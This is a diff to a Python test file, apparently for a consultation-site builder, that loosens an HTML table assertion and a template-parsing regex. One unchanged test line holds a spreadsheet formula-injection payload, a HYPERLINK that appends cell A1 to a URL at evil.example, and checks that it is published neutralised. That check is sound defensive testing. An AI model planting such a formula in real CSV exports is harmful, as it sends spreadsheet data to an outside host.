@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -182,7 +183,7 @@ def test_formula_cells_are_neutralised_in_the_file_and_read_back_as_written(site
     (site / "sq" / "harbour-rules-outcome.md").unlink()  # not imported here
     built = build(site, tmp_path / "output")  # the outcome's date is to come: decisions may wait
     page = (built / "en" / "harbour-rules-outcome" / "index.html").read_text("utf-8")
-    assert "<td>- lower the night fee for residents by half</td>" in page
+    assert re.search(r"<td[^>]*>- lower the night fee for residents by half</td>", page)
     published = (built / "en" / "harbour-rules-outcome" / "responses.csv").read_text("utf-8")
     assert "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"More details\"\")\"" in published
 
@@ -208,7 +209,7 @@ def test_category_names_are_the_ones_pages_show():
     from konsulta.responses import CATEGORY_NAMES
 
     template = (ROOT / "theme" / "templates" / "components" / "submitter-name.html").read_text("utf-8")
-    shown = dict(re.findall(r'response\.submitter == "([^"]+)" %\}\{\{ _\("([^"]+)"\) \}\}', template))
+    shown = dict(re.findall(r'submitter == "([^"]+)" %\}\{\{ _\("([^"]+)"\) \}\}', template))
     assert shown == CATEGORY_NAMES
 
 
